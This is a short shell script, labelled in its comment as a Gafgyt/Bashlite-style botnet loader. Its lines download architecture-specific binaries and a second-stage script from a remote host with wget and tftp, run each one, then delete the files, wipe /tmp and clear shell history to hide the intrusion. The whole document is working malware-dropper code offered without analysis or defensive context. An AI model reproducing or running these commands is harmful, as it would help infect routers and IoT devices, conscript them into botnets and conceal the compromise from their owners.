# Gafgyt/Bashlite-style loader (written by the kansoku team): one line per architecture, each
# fetched with wget, else tftp; every binary run and deleted; a second-stage script over tftp.
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.20/bins/sora.mips; chmod +x sora.mips; ./sora.mips; rm -rf sora.mips
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.20/bins/sora.arm7; chmod +x sora.arm7; ./sora.arm7; rm -rf sora.arm7
cd /tmp; tftp -g -r tftp1.sh 192.0.2.20; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf tftp1.sh
for_each=`ls /tmp/*.sh 2>/dev/null`; echo "left: $for_each"
rm -rf /tmp/* /var/run/*.sh
history -c
